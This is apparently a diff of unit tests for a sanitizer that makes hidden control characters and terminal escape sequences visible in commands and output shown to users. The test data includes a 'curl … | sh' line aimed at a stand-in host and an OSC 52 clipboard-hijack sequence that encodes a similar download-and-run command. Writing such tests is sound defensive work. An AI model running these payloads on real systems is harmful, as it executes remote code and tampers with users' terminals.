@@ -1,10 +1,10 @@
 import * as assert from 'node:assert/strict';
-import { LABEL_CHARS, visibleLabel, visibleParts, type VisibleOptions } from '../../../webview/visibleText';
+import { hasMarks, LABEL_CHARS, visibleLabel, visibleParts, visibleText, type VisibleOptions } from '../../../src/shared/visibleText';
 
 /** What the user reads where the text is shown: the parts one after the other, every mark spelled out. */
 const shown = (text: string, options?: VisibleOptions): string => visibleParts(text, options).map((part) => part.text).join('');
 
-describe('text the user approves shows every character that would hide', () => {
+describe('text bound for a person shows every character that would hide or act', () => {
   it('shows a line feed in a command as ␊, so a second command on a new line cannot pass for part of the first', () => {
     // Tried: a command that looks like `npm test` but runs `curl … | sh` on its second line.
     assert.equal(shown('npm test\ncurl https://evil.invalid | sh'), 'npm test␊curl https://evil.invalid | sh');
@@ -79,9 +79,47 @@ describe('text the user approves shows every character that would hide', () => {
     assert.equal(shown('👍\u200Db'), '👍⟨U+200D⟩b');
   });
 
-  it('keeps line feeds, tabs and CR LF as layout in output, and still shows a lone CR and the rest', () => {
-    const output = 'line 1\r\nline\t2\nprogress 10%\rprogress 100%\u001b[0m\u202E';
-    assert.equal(shown(output, { keepLayout: true }), 'line 1\r\nline\t2\nprogress 10%␍progress 100%␛[0m⟨U+202E⟩');
+  it('keeps line feeds and tabs as layout in output, makes CR LF a line feed, and still shows a lone CR and the rest', () => {
+    const output = 'line 1\r\nline\t2\nprogress 10%\rprogress 100%\u001b[0m\u202E\r';
+    assert.equal(shown(output, { keepLayout: true }), 'line 1\nline\t2\nprogress 10%␍progress 100%␛[0m⟨U+202E⟩␍');
+    assert.equal(visibleText(output, { keepLayout: true }), shown(output, { keepLayout: true }));
+  });
+
+  it('kills every terminal sequence a gate or a model can print: CSI, OSC 52 and the title, DCS, conceal, BEL, C1 and DEL', () => {
+    // Tried on a plain terminal: the clipboard set to a command, the window title changed, the line above erased.
+    const attack = '\u001b]52;c;Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmludmFsaWQvcCB8IHNo\u0007\u001b]0;title\u001b\\\u001bP1$r\u001b\\\u001b[8mhidden\u001b[1A\u001b[2K\u009b31m\u009d0;t\u009c\u007f';
+    const seen = visibleText(attack, { keepLayout: true });
+    assert.equal(seen, '␛]52;c;Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmludmFsaWQvcCB8IHNo␇␛]0;title␛\\␛P1$r␛\\␛[8mhidden␛[1A␛[2K\\u{009B}31m\\u{009D}0;t\\u{009C}␡');
+    // eslint-disable-next-line no-control-regex -- no control character may be left
+    assert.doesNotMatch(seen, /[\u0000-\u0008\u000a-\u001f\u007f-\u009f]/);
+    assert.equal(visibleText(attack), seen, 'no line feed or tab in it: both modes agree');
+  });
+
+  it('one table: a character is marked exactly when it is a control, a format character, a separator other than the space, or one of the named blanks', () => {
+    const named = new Set([0x034f, 0x115f, 0x1160, 0x2800, 0x3164, 0xffa0]);
+    const category = /^[\p{Cc}\p{Cf}\p{Zs}\p{Zl}\p{Zp}]$/u;
+    const mismatches: string[] = [];
+    for (let code = 0; code <= 0x10ffff; code++) {
+      const char = String.fromCodePoint(code);
+      const selector = (code >= 0xfe00 && code <= 0xfe0d) || (code >= 0xe0100 && code <= 0xe01ef);
+      const expected = code !== 0x20 && (category.test(char) || named.has(code) || selector || (code >= 0xd800 && code <= 0xdfff));
+      if (hasMarks(`a${char}b`) !== expected) mismatches.push(code.toString(16));
+    }
+    assert.deepEqual(mismatches, []);
+  });
+
+  it('the string and the parts agree on every text, and text without marks comes back as the same string', () => {
+    const pieces = ['a', ' ', '\n', '\r', '\r\n', '\t', '\u001b', '\u0085', '\u00a0', '\u200d', '\u202e', '👨', '🏴', '\u{e0067}', '\u{e007f}', '\ufe0f', '\ud800', 'é', '你', '\u007f'];
+    let seed = 7;
+    const next = (): number => (seed = (seed * 1103515245 + 12345) % 2 ** 31);
+    for (let round = 0; round < 3000; round++) {
+      const text = Array.from({ length: next() % 12 }, () => pieces[next() % pieces.length]).join('');
+      for (const options of [{}, { keepLayout: true }]) assert.equal(visibleText(text, options), shown(text, options), JSON.stringify(text));
+    }
+    const plain = 'x'.repeat(1000);
+    assert.equal(visibleText(plain), plain);
+    assert.equal(hasMarks('ok 👍 Grüße'), false);
+    assert.equal(hasMarks('a\u200bb'), true);
   });
 
   it('makes labels one line of at most 80 characters, cut with … and never inside a mark or a surrogate pair', () => {
